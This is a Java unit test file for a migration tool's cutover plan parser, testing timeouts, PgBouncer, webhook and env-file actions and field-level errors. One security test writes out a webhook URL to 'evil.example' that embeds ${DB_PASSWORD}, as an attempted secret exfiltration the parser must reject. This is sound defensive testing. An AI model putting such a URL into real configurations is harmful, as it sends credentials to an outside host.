package io.tributary.planning;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.catchThrowableOfType;
import static org.assertj.core.api.Assertions.tuple;

import io.tributary.common.plan.CutoverAction;
import io.tributary.common.plan.CutoverPlan;
import io.tributary.common.plan.CutoverStep;
import io.tributary.common.plan.PlanError;
import java.net.URI;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;

class CutoverPlanParserTest {
  private final PlanParser parser =
      new PlanParser(
          Map.of("TRIBUTARY_WEBHOOK_TOKEN", "t0k", "PW", "pw", "DB_PASSWORD", "db-secret-1")::get);

  private static final String SOURCES =
      """
      migration: m
      sources:
        - name: letta
          kind: postgres
          url: postgresql://letta@127.0.0.1:5432/letta
          schema: letta_agents
        - name: agents
          kind: sqlite
          path: /data/agents.db
      """;

  private List<PlanError> errorsOf(String cutover) {
    try {
      parser.parse(SOURCES + cutover);
      throw new AssertionError("expected a PlanException");
    } catch (PlanException e) {
      return e.errors();
    }
  }

  @Test
  @DisplayName("Without a cutover section: default timeouts, sources kept read-only, no actions")
  void defaults() {
    CutoverPlan plan = parser.parse(SOURCES).cutover();
    assertThat(plan.keepSourcesReadOnly()).isTrue();
    assertThat(plan.fullValidation()).isFalse();
    assertThat(plan.actions()).isEmpty();
    assertThat(plan.timeout(CutoverStep.FREEZE)).isEqualTo(Duration.ofSeconds(10));
    assertThat(plan.timeout(CutoverStep.DRAIN)).isEqualTo(Duration.ofSeconds(60));
  }

  @Test
  @DisplayName("Every action kind, timeouts and freeze roles parse, placeholders resolved")
  void everyAction() {
    CutoverPlan plan =
        parser
            .parse(
                SOURCES
                    + """
                    cutover:
                      timeouts: { freeze: 500ms, drain: 2m, validate: 90, switch: PT15S }
                      keep-sources-read-only: false
                      final-validation: full
                      actions:
                        - pgbouncer:
                            source: letta
                            admin: postgresql://admin@127.0.0.1:6432/pgbouncer
                            database: letta
                            config: /etc/pgbouncer/pgbouncer.ini
                            target-password: ${PW}
                        - webhook:
                            url: https://ops.example/hooks/cutover
                            headers: { X-Token: "${TRIBUTARY_WEBHOOK_TOKEN}" }
                            timeout: 3s
                        - event: {}
                        - env-file: { path: /srv/agents/db.env, source: agents }
                    """)
            .cutover();
    assertThat(plan.timeout(CutoverStep.FREEZE)).isEqualTo(Duration.ofMillis(500));
    assertThat(plan.timeout(CutoverStep.DRAIN)).isEqualTo(Duration.ofMinutes(2));
    assertThat(plan.timeout(CutoverStep.VALIDATE)).isEqualTo(Duration.ofSeconds(90));
    assertThat(plan.timeout(CutoverStep.SWITCH)).isEqualTo(Duration.ofSeconds(15));
    assertThat(plan.timeout(CutoverStep.FENCE)).isEqualTo(CutoverStep.FENCE.defaultTimeout());
    assertThat(plan.keepSourcesReadOnly()).isFalse();
    assertThat(plan.fullValidation()).isTrue();
    assertThat(plan.actions())
        .containsExactly(
            new CutoverAction.PgBouncer(
                "letta",
                "postgresql://admin@127.0.0.1:6432/pgbouncer",
                "letta",
                Path.of("/etc/pgbouncer/pgbouncer.ini"),
                null,
                "pw"),
            new CutoverAction.Webhook(
                URI.create("https://ops.example/hooks/cutover"),
                Map.of("X-Token", "t0k"),
                Duration.ofSeconds(3)),
            new CutoverAction.Event("tributary.status"),
            new CutoverAction.EnvFile(Path.of("/srv/agents/db.env"), "agents"));
    assertThat(plan.pgBouncer("letta")).isPresent();
    assertThat(plan.pgBouncer("agents")).isEmpty();
  }

  /**
   * Security review (low): a webhook's url and headers read only TRIBUTARY_WEBHOOK_* variables: a
   * plan cannot send another secret of the orchestrator's environment to the host it names.
   */
  @Test
  @DisplayName("A webhook's placeholders read only TRIBUTARY_WEBHOOK_* variables")
  void webhookPlaceholders() {
    PlanException e =
        catchThrowableOfType(
            PlanException.class,
            () ->
                parser.parse(
                    SOURCES
                        + """
                        cutover:
                          actions:
                            - webhook:
                                url: "https://evil.example/x?p=${DB_PASSWORD}"
                                headers: { X-Token: "${PW}" }
                        """));
    assertThat(e.errors())
        .extracting(PlanError::field)
        .containsExactlyInAnyOrder(
            "cutover.actions[0].webhook.url", "cutover.actions[0].webhook.headers.X-Token");
    assertThat(e.errors())
        .allSatisfy(
            error ->
                assertThat(error.message())
                    .contains("only variables named TRIBUTARY_WEBHOOK_*")
                    .doesNotContain("db-secret-1"));
  }

  @Test
  @DisplayName("Freeze roles of a postgres source without PgBouncer")
  void freezeRoles() {
    CutoverPlan plan =
        parser
            .parse(SOURCES + "cutover:\n  freeze:\n    letta: { roles: [app, reporting] }\n")
            .cutover();
    assertThat(plan.freezeRoles()).containsEntry("letta", List.of("app", "reporting"));
  }

  @Test
  @DisplayName("Each bad field is named with what is wrong")
  void badFields() {
    List<PlanError> errors =
        errorsOf(
            """
            cutover:
              timeouts: { freeze: soon, lunch: 5m }
              keep-sources-read-only: maybe
              final-validation: everything
              freeze:
                agents: { roles: [x] }
                nosuch: {}
              actions:
                - pgbouncer: { source: agents, admin: localhost:6432, database: d, config: /x }
                - webhook: { url: "ftp://x" }
                - teleport: {}
                - env-file: { path: /x.env }
                - webhook: { url: "https://h/x" }
                  event: {}
            """);
    assertThat(errors)
        .extracting(PlanError::field)
        .containsExactlyInAnyOrder(
            "cutover.timeouts.freeze",
            "cutover.timeouts.lunch",
            "cutover.keep-sources-read-only",
            "cutover.final-validation",
            "cutover.freeze.agents",
            "cutover.freeze.nosuch",
            "cutover.actions[0].pgbouncer.source",
            "cutover.actions[0].pgbouncer.admin",
            "cutover.actions[1].webhook.url",
            "cutover.actions[2].teleport",
            "cutover.actions[3].env-file.source",
            "cutover.actions[4]");
    assertThat(errors)
        .filteredOn(e -> e.field().equals("cutover.actions[0].pgbouncer.source"))
        .first()
        .extracting(PlanError::message)
        .asString()
        .contains("sqlite", "postgres");
    assertThat(errors)
        .filteredOn(e -> e.field().equals("cutover.timeouts.freeze"))
        .first()
        .extracting(PlanError::message)
        .asString()
        .contains("'soon' is not a positive duration");
  }

  @Test
  @DisplayName("A source frozen through PgBouncer cannot also list freeze roles")
  void pgBouncerAndRoles() {
    List<PlanError> errors =
        errorsOf(
            """
            cutover:
              freeze: { letta: { roles: [app] } }
              actions:
                - pgbouncer: { source: letta, admin: "postgresql://a@h:6432/pgbouncer", database: letta, config: /x }
            """);
    assertThat(errors).extracting(PlanError::field).containsExactly("cutover.freeze.letta");
  }

  @Test
  @DisplayName("A duration beyond what a timeout may be is a named error, never an overflow")
  void hugeDurations() {
    List<PlanError> errors =
        errorsOf(
            """
            cutover:
              timeouts:
                freeze: 99999999999999999999s
                drain: 9999999999999999h
                validate: 25h
                fence: 24h
            """);
    assertThat(errors)
        .extracting(PlanError::field, PlanError::message)
        .containsExactlyInAnyOrder(
            tuple(
                "cutover.timeouts.freeze",
                "'99999999999999999999s' is not a positive duration (e.g. 500ms, 10s, 5m)"),
            tuple(
                "cutover.timeouts.drain",
                "'9999999999999999h' is not a positive duration (e.g. 500ms, 10s, 5m)"),
            tuple("cutover.timeouts.validate", "'25h' is longer than 24h"));
  }
}
